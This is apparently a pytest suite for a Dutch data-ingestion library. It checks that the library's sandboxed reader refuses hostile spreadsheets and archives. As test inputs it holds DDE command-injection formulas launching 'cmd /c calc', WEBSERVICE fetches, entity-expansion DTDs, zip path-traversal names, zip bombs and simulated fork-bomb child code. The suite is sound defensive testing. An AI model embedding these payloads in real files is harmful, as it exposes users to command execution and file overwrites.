"""Hostile and broken files: each is refused with a rule that says what it is, and costs one file, never a worker."""

import io
import os
import struct
import subprocess
import textwrap
import time
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import msoffcrypto.format.ooxml
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlwt
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table, TableCell, TableRow
from odf.text import P
from pydantic import TypeAdapter
from xlwt.CompoundDoc import XlsDoc

from kerndata.contracts.contract import delivery_rule
from kerndata.errors import FileFault, NotChecked
from kerndata.quality.wording import word_fault
from kerndata.read import RULES, Limits, child, guard, read, reader
from kerndata.read.limits import SIZES
from kerndata.sources.formats import CsvFormat, FormatSpec, JsonFormat, ParquetFormat, XlsxFormat, ZipFormat

CSV = CsvFormat(delimiter=";")
TABLE = b"a;b\n1;2\n"
ROWS: list[list[Any]] = [["Provincie", "Waarde"], ["Drenthe", 12.5], ["Zeeland", 7]]


def spec_of(kind: str) -> FormatSpec:
    inner = {"kind": "csv", "delimiter": ";"}
    more = {"zip": {"members": "*.csv", "inner": inner}}.get(kind, {})
    return TypeAdapter(FormatSpec).validate_python({"kind": kind, **more})


@pytest.fixture
def refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., dict[str, Any]]:
    """What the child answers to these bytes: here in this process, which is a hundred times as fast."""
    monkeypatch.chdir(tmp_path)

    def answer(data: bytes, spec: FormatSpec, **limits: int) -> dict[str, Any]:
        path = tmp_path / "delivered"
        path.write_bytes(data)
        found = child.answer(path, spec, Limits(**limits))
        if "fault" in found:
            assert found["fault"] in RULES
            message = word_fault(FileFault(str(found["fault"]), **found["facts"]))  # type: ignore[arg-type]
            assert "onbekend" not in message.message_nl
            assert "unknown" not in message.message_en
        return found

    return answer


def xlsx(rows: list[list[Any]] = ROWS) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def ods(formula: str = "") -> bytes:
    book = OpenDocumentSpreadsheet()
    table = Table(name="Blad1")
    for row in ROWS:
        line = TableRow()
        for cell in row:
            given = {"formula": formula} if formula else {}
            one = TableCell(valuetype="string", **given)
            one.addElement(P(text=str(cell)))
            line.addElement(one)
        table.addElement(line)
    book.spreadsheet.addElement(table)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def xls(change: Callable[[bytes], bytes] = bytes) -> bytes:
    """An Excel 97 workbook; ``change`` may alter its stream of records."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("Blad1")
    for number, row in enumerate(ROWS):
        for column, cell in enumerate(row):
            sheet.write(number, column, cell)
    stream = io.BytesIO()
    XlsDoc().save(stream, change(book.get_biff_data()))
    return stream.getvalue()


def record(kind: int, body: bytes) -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def behind_first(kind: int, body: bytes) -> Callable[[bytes], bytes]:
    """Put a record behind the first one (the beginning of the workbook)."""

    def change(stream: bytes) -> bytes:
        end = 4 + struct.unpack_from("<H", stream, 2)[0]
        return stream[:end] + record(kind, body) + stream[end:]

    return change


def zipped(members: Mapping[str, bytes], **more: Any) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, **more) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return stream.getvalue()


def with_parts(book: bytes, **parts: bytes) -> bytes:
    """A workbook with parts added or replaced; a name is written with ``__`` for ``/``, ``_`` for ``.``."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return zipped(members | {name.replace("__", "/").replace("_", "."): body for name, body in parts.items()})


def connected(connection: bytes) -> bytes:
    """A workbook with one connection, whose element is closed here."""
    name = b"x:connection" if connection.startswith(b"<x:") else b"connection"
    return with_parts(xlsx(), xl__connections_xml=b"<connections>" + connection + b"</" + name + b"></connections>")


def altered(book: bytes, part: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    assert old in members[part]
    return zipped(members | {part: members[part].replace(old, new)})


def with_formula(formula: str) -> bytes:
    return altered(
        xlsx(), "xl/worksheets/sheet1.xml", b"<v>12.5</v>", f"<f>{formula}</f><v>12.5</v>".encode()
    )  # fmt: skip


SHEET = "xl/worksheets/sheet1.xml"
DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def locked_xlsx() -> bytes:
    stream = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(xlsx())).encrypt("geheim", stream)
    return stream.getvalue()


def locked_zip() -> bytes:
    data = bytearray(zipped({"a.csv": TABLE}))
    data[6] |= 1  # the flag in the local header
    data[data.index(b"PK\1\2") + 8] |= 1  # and in the index
    return bytes(data)


def encrypted_ods() -> bytes:
    mark = b'<manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:manifest>'
    return altered(ods(), "META-INF/manifest.xml", b"</manifest:manifest>", mark)


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("xlsx", locked_xlsx),
        ("csv", locked_xlsx),
        ("xls", lambda: xls(behind_first(0x2F, bytes(6)))),
        ("ods", encrypted_ods),
        ("zip", locked_zip),
    ],
    ids=["xlsx", "xlsx called csv", "xls", "ods", "zip"],
)
def test_a_password_is_named(refused: Callable[..., dict[str, Any]], kind: str, make: Callable[[], bytes]) -> None:
    assert refused(make(), spec_of(kind))["fault"] == "F-PASSWORD"


def with_storage(name: str) -> bytes:
    """An xls whose directory has one more entry, as a workbook with Visual Basic has."""
    data = bytearray(xls())
    place = data.index("Workbook".encode("utf-16-le"))
    entry = data[place + 128 : place + 256]
    entry[: len(name) * 2], entry[64:67] = name.encode("utf-16-le"), struct.pack("<HB", len(name) * 2 + 2, 1)
    data[place + 128 : place + 256] = entry
    return bytes(data)


def macro_sheet(stream: bytes) -> bytes:
    place = stream.index(record(0x85, b"")[:2], 0) + 4
    return stream[: place + 5] + b"\1" + stream[place + 6 :]


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("xlsx", lambda: with_parts(xlsx(), xl__vbaProject_bin=b"\xd0\xcf")),
        ("xlsx", lambda: with_parts(xlsx(), xl__macrosheets__sheet1_xml=b"<xm:macrosheet/>")),
        ("xlsx", lambda: with_parts(xlsx(), xl__activeX__activeX1_xml=b"<ocx/>")),
        ("csv", lambda: with_parts(xlsx(), xl__vbaProject_bin=b"\xd0\xcf")),
        (
            "xlsx",
            lambda: altered(xlsx(), "[Content_Types].xml", b"</Types>", b"<Override PartName='/x' ContentType="
            b"'application/vnd.ms-excel.macrosheet+xml'/></Types>"),
        ),
        (
            "xlsx",
            lambda: altered(xlsx(), "xl/workbook.xml", b"</workbook>", b'<definedNames><definedName name="Auto_Open">'
            b"Blad!A1</definedName></definedNames></workbook>"),
        ),
        ("ods", lambda: with_parts(ods(), Basic__Standard__Module1_xml=b"<script:module/>")),
        ("ods", lambda: with_parts(ods(), Scripts__python__start_py=b"import os")),
        ("xls", lambda: with_storage("_VBA_PROJECT_CUR")),
        ("xls", lambda: xls(macro_sheet)),
    ],
    ids=["vba", "excel 4", "activex", "called csv", "content type", "auto open", "basic", "python", "xls", "xls sheet"],
)  # fmt: skip
def test_macros_are_refused(refused: Callable[..., dict[str, Any]], kind: str, make: Callable[[], bytes]) -> None:
    assert refused(make(), spec_of(kind))["fault"] == "F-MACRO"


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("xlsx", lambda: with_formula("cmd|'/c calc'!A0")),
        ("xlsx", lambda: with_formula("cmd&#124;&apos;/c calc&apos;!A0")),
        ("xlsx", lambda: with_formula('1+_xlfn.WEBSERVICE("http://a.example/"&amp;A1)')),
        ("xlsx", lambda: with_parts(xlsx(), xl__externalLinks__externalLink1_xml=b'<externalLink><ddeLink ddeService='
         b'"cmd" ddeTopic="/c calc"/></externalLink>')),
        ("ods", lambda: ods("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;A1&quot;)".replace("&quot;", '"'))),
        ("xlsx", lambda: connected(b'<connection id="1" name="a>b" type="5" refreshOnLoad="1"><dbPr connection="x"/>')),
        ("xlsx", lambda: connected(b'<connection id="1" type="1" interval="15"><dbPr connection="DSN=x"/>')),
        ("xlsx", lambda: connected(b'<x:connection id="1" type="4"><x:webPr url="http://a.example/"/>')),
        ("xlsx", lambda: with_parts(xlsx(), xl__pivotCache__p_xml=b'<pivotCacheDefinition refreshOnLoad="1">'
         b'<cacheSource type="external" connectionId="1"/></pivotCacheDefinition>')),
        ("ods", lambda: altered(ods(), "content.xml", b"<table:table-row", b'<table:table-source xlink:href="https://'
         b'a.example/b.ods"/><table:table-row')),
        ("xls", lambda: xls(behind_first(0x876, struct.pack("<HHH", 0x876, 0, 4) + bytes(20)))),
        ("xls", lambda: xls(behind_first(0x1AE, struct.pack("<HHB", 0, 9, 0) + b"cmd\3/c ca"))),
        ("xls", lambda: xls(behind_first(0x1AE, struct.pack("<HHB", 0, 5, 1) + "cmd\3x".encode("utf-16-le")))),
    ],
    ids=["command", "command written otherwise", "webservice", "dde link", "ods", "on opening", "by the clock",
         "web query", "pivot", "ods table", "xls web query", "xls", "xls wide"],
)  # fmt: skip
def test_links_that_run_or_fetch_are_refused(
    refused: Callable[..., dict[str, Any]], kind: str, make: Callable[[], bytes]
) -> None:
    assert refused(make(), spec_of(kind))["fault"] == "F-DDE"


@pytest.mark.parametrize(
    "formula",
    ["SUM(B2:B3)", 'A1&amp;" | "&amp;Blad2!B1', '"DDE("&amp;A1', "[1]Blad1!A1", "IF(A1=0,1,2)", 'HYPERLINK("http://a.example")'],
)  # fmt: skip
def test_plain_formulas_and_links_to_workbooks_pass(refused: Callable[..., dict[str, Any]], formula: str) -> None:
    assert "fault" not in refused(with_formula(formula), XlsxFormat())


@pytest.mark.parametrize(
    ("kind", "make", "links"),
    [
        ("xlsx", lambda: connected(b'<connection id="1" type="5" ><dbPr connection="Provider=Mash"/>'),
         ["connection"]),
        ("xlsx", lambda: with_parts(xlsx(), xl__externalLinks__externalLink1_xml=b"<externalLink/>"), ["workbook"]),
        ("xlsx", lambda: with_parts(xlsx(), xl__pivotCache__p_xml=b'<pivotCacheDefinition refreshOnLoad="1">'
         b'<cacheSource type="worksheet"/></pivotCacheDefinition>'), []),
        ("ods", lambda: altered(ods(), "content.xml", b"<table:table-row", b'<table:table-source '
         b'xlink:href="../b.ods"/><table:table-row'), ["workbook"]),
        ("zip", lambda: zipped({"a.xlsx": with_parts(xlsx(), xl__externalLinks__e_xml=b"<a/>")}), ["workbook"]),
    ],
    ids=["connection", "workbook", "pivot of its own", "ods", "in a zip"],
)  # fmt: skip
def test_links_that_wait_to_be_asked_pass_and_are_told(
    refused: Callable[..., dict[str, Any]], kind: str, make: Callable[[], bytes], links: list[str]
) -> None:
    spec = ZipFormat(members="*.xlsx", inner=XlsxFormat()) if kind == "zip" else spec_of(kind)
    assert list(refused(make(), spec)["links"]) == links


@pytest.mark.parametrize(
    ("number", "body", "links"),
    [(0x876, struct.pack("<HHH", 0x876, 0, 5) + bytes(20), {"connection"}), (0x1AE, b"\1\0\6\0\0\1b.xls", {"workbook"}),
     (0x1AE, b"\3\0\1\4", set()), (0x1AE, b"\1\0\1\x3a\0\0", set())],
)  # fmt: skip
def test_links_of_an_xls_are_told(number: int, body: bytes, links: set[str]) -> None:
    assert guard.inspect(io.BytesIO(xls(behind_first(number, body))), "xls", Limits()) == links


def test_links_come_out_of_the_child(tmp_path: Path) -> None:
    path = tmp_path / "delivered"
    path.write_bytes(with_parts(xlsx(), xl__externalLinks__e_xml=b"<a/>", xl__connections_xml=b"<connections/>"))
    assert read(path, XlsxFormat()).links == ("connection", "workbook")


def test_whole_workbooks_pass(refused: Callable[..., dict[str, Any]]) -> None:
    assert "fault" not in refused(xlsx(), XlsxFormat())
    assert "fault" not in refused(ods(), spec_of("ods"))
    assert "fault" not in refused(xls(), spec_of("xls"))


@pytest.mark.parametrize(
    ("kind", "make"),
    [
        ("xlsx", lambda: altered(xlsx(), SHEET, b"<worksheet", DTD + b"<worksheet")),
        ("xlsx", lambda: altered(xlsx(), "xl/workbook.xml", b"<workbook", DTD + b"<workbook")),
        ("xlsx", lambda: with_parts(xlsx(), docProps__app_xml="<a/>".encode("utf-16"))),
        ("xlsx", lambda: with_parts(xlsx(), docProps__app_xml=b'<?xml version="1.0" encoding="utf-7"?><a/>')),
        ("ods", lambda: altered(ods(), "content.xml", b"<office:document", DTD + b"<office:document")),
        ("xlsx", lambda: b"MZ" + xlsx()),
    ],
    ids=["sheet", "workbook", "utf-16", "utf-7", "ods", "bytes before"],
)  # fmt: skip
def test_xml_that_expands_or_hides_is_refused(
    refused: Callable[..., dict[str, Any]], kind: str, make: Callable[[], bytes]
) -> None:
    assert refused(make(), spec_of(kind))["fault"] == "F-UNREADABLE"


@pytest.mark.parametrize(
    "name", ["../a.csv", "map/../../a.csv", "/etc/a.csv", "C:\\a.csv", "..\\a.csv", "a\nb.csv", "a\x1b.csv", "a\0.csv"]
)  # fmt: skip
def test_a_name_that_leads_out_of_the_zip_is_refused(refused: Callable[..., dict[str, Any]], name: str) -> None:
    marked = name.replace("\0", "?")  # Python's own writer cuts a name at NUL
    data = zipped({marked: TABLE}).replace(marked.encode(), name.encode())
    found = refused(data, spec_of("zip"))
    assert found["fault"] == "F-ZIP-NAME"
    assert found["facts"]["member"].isprintable()


def test_two_members_of_one_name_are_refused(refused: Callable[..., dict[str, Any]]) -> None:
    twice = zipped({"a.csv": TABLE, "b.csv": TABLE}).replace(b"b.csv", b"A.csv")
    assert "dezelfde naam" in refused(twice, spec_of("zip"))["facts"]["reden"]


def test_members_that_share_their_bytes_are_refused(refused: Callable[..., dict[str, Any]]) -> None:
    data = zipped({"a.csv": TABLE * 100, "b.csv": TABLE * 100})
    second = data.rindex(b"PK\1\2")
    shared = data[: second + 42] + struct.pack("<I", 0) + data[second + 46 :]
    assert "overlappen" in refused(shared, spec_of("zip"))["facts"]["reden"]


def test_a_zip_that_lies_about_sizes_is_refused(refused: Callable[..., dict[str, Any]]) -> None:
    data = bytearray(zipped({"a.csv": TABLE * 1000}))
    at = data.index(b"PK\1\2")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    assert refused(bytes(data), spec_of("zip"))["fault"] == "F-UNREADABLE"


def test_a_zip_in_a_zip_is_not_opened(refused: Callable[..., dict[str, Any]]) -> None:
    inner = zipped({"a.csv": TABLE})
    assert refused(zipped({"a.csv": TABLE, "b.zip": inner}), spec_of("zip"))["fault"] == "F-ZIP-UNEXPECTED"
    assert refused(zipped({"a.csv": inner}), spec_of("zip"))["fault"] in ("F-OTHER-FORMAT", "F-NUL", "F-ENCODING")


def test_a_workbook_in_a_zip_is_looked_at_too(refused: Callable[..., dict[str, Any]]) -> None:
    book = with_parts(xlsx(), xl__vbaProject_bin=b"\xd0\xcf")
    spec = ZipFormat(members="*.xlsx", inner=XlsxFormat())
    assert refused(zipped({"a.xlsx": book}), spec)["fault"] == "F-MACRO"


def test_a_workbook_that_unpacks_to_much_is_refused(refused: Callable[..., dict[str, Any]]) -> None:
    book = with_parts(xlsx(), docProps__more_xml=b"<a>" + b" " * 12_000_000 + b"</a>")
    found = refused(book, XlsxFormat())
    assert (found["fault"], found["facts"]["wat"]) == ("F-TOO-LARGE", "keer zo groot na uitpakken")


def deep_xml(levels: int) -> bytes:
    return with_parts(xlsx(), docProps__more_xml=b"<a>" * levels + b"</a>" * levels)


@pytest.mark.parametrize(
    ("what", "data", "spec", "limits"),
    [
        ("nesting levels", b"[" * 100_000, JsonFormat(), {}),
        ("nesting levels", b'[{"a": ' + b"[" * 70 + b"]" * 70 + b"}]", JsonFormat(), {}),
        ("nesting levels", deep_xml(100_000), XlsxFormat(), {}),
        ("zip entries", zipped({f"{n}.csv": TABLE for n in range(20)}), spec_of("zip"), {"entries": 10}),
        ("unpacked bytes", zipped({"a.csv": TABLE * 99, "b.csv": TABLE * 99}), spec_of("zip"), {"unpacked_bytes": 999}),
        ("rows", TABLE + b"1;2\n" * 100, CSV, {"rows": 50}),
        ("columns", b";".join([b"a"] * 100) + b"\n" + b";".join([b"1"] * 100) + b"\n", CSV, {"columns": 50}),
        ("characters in a cell", b"a;b\n1;" + b"x" * 40_000 + b"\n", CSV, {}),
        ("cells", TABLE * 100, CSV, {"cells": 100}),
        ("bytes", TABLE, CSV, {"input_bytes": 4}),
    ],
)  # fmt: skip
def test_every_limit_is_told_in_dutch(
    refused: Callable[..., dict[str, Any]], what: str, data: bytes, spec: FormatSpec, limits: dict[str, int]
) -> None:
    found = refused(data, spec, **limits)
    assert (found["fault"], found["facts"]["what"]) == ("F-TOO-LARGE", what)
    assert found["facts"]["wat"] == SIZES[what]


def test_brackets_in_texts_are_no_nesting(refused: Callable[..., dict[str, Any]]) -> None:
    assert "fault" not in refused(b'[{"a": "' + b"[" * 100 + b'"}]', JsonFormat())


def parquet() -> bytes:
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table({"a": ["x"] * 500, "b": list(range(500))}), sink)
    return bytes(sink.getvalue())


@pytest.mark.parametrize("kind", ["xlsx", "ods", "xls", "zip", "parquet", "json"])
@pytest.mark.parametrize("share", [0.0, 0.01, 0.5, 0.9, 0.999])
def test_a_file_cut_off_is_refused(refused: Callable[..., dict[str, Any]], kind: str, share: float) -> None:
    made: dict[str, Callable[[], bytes]] = {
        "xlsx": xlsx, "ods": ods, "xls": xls, "zip": lambda: zipped({"a.csv": TABLE}), "parquet": parquet,
        "json": lambda: b'[{"a": 1, "b": "twee"}]',
    }  # fmt: skip
    data = made[kind]()
    assert refused(data[: int(len(data) * share)], spec_of(kind))["fault"] in (
        "F-EMPTY",
        "F-UNREADABLE",
        "F-OTHER-FORMAT",
    )


def test_a_sparse_file_of_two_gigabytes_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "delivered"
    path.touch()
    os.truncate(path, 2 * 1024**3)
    start = time.monotonic()
    with pytest.raises(FileFault, match="F-TOO-LARGE"):
        read(path, CSV)
    assert time.monotonic() - start < 0.5


def test_a_small_file_gets_little_time_and_a_large_one_more() -> None:
    small, large = Limits().for_size(4096, "parquet"), Limits().for_size(100 * 1024**2, "csv")
    assert (small.wall_seconds, small.cpu_seconds) == (25, 12)
    assert (large.wall_seconds, large.cpu_seconds) == (240, 240)
    assert Limits().for_size(2 * 1024**2, "xlsx").cpu_seconds == 36  # a packed mebibyte holds more
    assert small.wall_seconds + 5 <= 30  # nothing of ordinary size hangs longer


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Exception]:
    """What ``read`` raises when the child runs these lines instead, as after a hostile file took it over."""

    def outcome(lines: str, **limits: int) -> Exception:
        module = f"hostile_{abs(hash(lines))}"
        work = textwrap.indent(f"open('ready', 'w').close()\n{lines}", "    ")
        text = f"import os, sys, signal, time\ndef load(kinds): pass\ndef main():\n{work}\n"
        (tmp_path / f"{module}.py").write_text(text)
        monkeypatch.syspath_prepend(tmp_path)
        monkeypatch.setattr(reader, "CHILD", module)
        path = tmp_path / "delivered"
        path.write_bytes(TABLE)
        with pytest.raises((FileFault, NotChecked)) as error:
            read(path, CSV, Limits(**limits))
        return error.value

    return outcome


def left(work: Path, text: pa.Table, native: pa.Table | None = None) -> Path:
    """What a child would leave that read one sheet."""
    for name, table in (("text", text), ("native", native)):
        if table is not None:
            with pa.OSFile(str(work / f"0.{name}.arrow"), "wb") as sink, pa.ipc.new_file(sink, table.schema) as writer:
                writer.write_table(table)
    has_native = str(native is not None).lower()
    (work / "reading.json").write_text(f'{{"sheets": [{{"name": "a", "member": null, "native": {has_native}}}]}}')
    return work


TEXT = pa.table({"c1": ["abc"]})


def with_bytes(work: Path, old: bytes, new: bytes) -> Path:
    path = left(work, TEXT) / "0.text.arrow"
    start, _, end = path.read_bytes().rpartition(old)
    path.write_bytes(start + new + end)
    return work


def without_table(work: Path) -> Path:
    (left(work, TEXT) / "0.text.arrow").unlink()
    return work


def with_pipe(work: Path) -> Path:
    os.mkfifo(without_table(work) / "0.text.arrow")
    return work


@pytest.mark.parametrize(
    "leave",
    [
        without_table,
        with_pipe,
        lambda work: with_bytes(work, b"ARROW1", b"WORRA1"),
        lambda work: with_bytes(work, b"\0\0\0\0\3\0\0\0", b"\0\0\0\0\xff\xff\xff\x7f"),
        lambda work: with_bytes(work, b"abc", b"\xff\xfe\xff"),
        lambda work: left(work, pa.table({"x": ["a"]})),
        lambda work: left(work, pa.table({"c1": [1]})),
        lambda work: left(work, TEXT, pa.table({"c1": [True, False]})),
        lambda work: left(work, pa.table({"c1": ["a"] * 100})),
    ],
    ids=["absent", "pipe", "garbage", "offset", "utf-8", "names", "type", "shape", "rows"],
)
def test_tables_of_a_hostile_child_are_not_believed(tmp_path: Path, leave: Callable[[Path], Path]) -> None:
    with pytest.raises(FileFault) as error:
        reader.collect(leave(tmp_path), Limits(rows=50))
    assert error.value.facts["reden"] == "het bestand heeft het leesprogramma ontregeld"


def test_tables_of_an_honest_child_are(tmp_path: Path) -> None:
    [sheet] = reader.collect(left(tmp_path, TEXT, pa.table({"c1": [False]})), Limits()).sheets
    assert sheet.text.to_pydict() == {"c1": ["abc"]}


def processes() -> str:
    return subprocess.run(["ps", "-ewwo", "args"], capture_output=True, text=True, check=True).stdout


def test_what_a_child_leaves_running_is_stopped(hostile: Callable[..., Exception]) -> None:
    lines = "for _ in range(40):\n if not os.fork():\n  time.sleep(300)\nopen('/dev/null')\nos._exit(1)"
    assert isinstance(hostile(lines), FileFault)
    deadline = time.monotonic() + 10  # they are killed already; the system takes a moment to end forty processes
    while (running := processes().count(reader.CHILD)) > 1 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert running == 1  # what forks them, for the next file


def test_a_child_that_talks_without_end_fills_nobodys_memory(hostile: Callable[..., Exception]) -> None:
    limit = "import resource\nresource.setrlimit(resource.RLIMIT_FSIZE, (10**6, 10**6))\n"
    lines = limit + "while True: os.write(2, b'x' * 10**5)"
    assert isinstance(hostile(lines), FileFault)


def test_a_child_that_cannot_start_is_our_fault(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "unable.py").write_text("def load(kinds): raise ImportError('no pyarrow')")
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.setattr(reader, "CHILD", "unable")
    path = tmp_path / "delivered"
    path.write_bytes(TABLE)
    with pytest.raises(NotChecked, match=r"(?s)could not start.*no pyarrow"):
        read(path, CSV)


def test_every_rule_of_reading_has_its_words() -> None:
    assert all(delivery_rule(rule_id).action_nl for rule_id in RULES)


def test_a_reader_that_never_ends_is_stopped_by_its_computing_time(hostile: Callable[..., Exception]) -> None:
    error = hostile("import resource\nresource.setrlimit(resource.RLIMIT_CPU, (1, 2))\nwhile True: pass", cpu_seconds=1)
    assert isinstance(error, FileFault)
    assert error.facts["reden"] == "het lezen kostte meer dan 1 s"


def test_a_reader_that_waits_for_ever_is_stopped_by_the_clock(hostile: Callable[..., Exception]) -> None:
    error = hostile("time.sleep(300)", wall_seconds=2)
    assert isinstance(error, FileFault)
    assert error.facts["reden"] == "het lezen kostte meer dan 2 s"


def test_a_parquet_file_that_claims_much_is_refused_before_it_is_unpacked(
    refused: Callable[..., dict[str, Any]],
) -> None:
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table({"a": pa.repeat(1, 2_000_000)}), sink, compression="zstd")
    assert len(sink.getvalue()) < 10_000
    found = refused(bytes(sink.getvalue()), ParquetFormat(), cells=1_000_000)
    assert (found["fault"], found["facts"]["wat"]) == ("F-TOO-LARGE", "cellen")
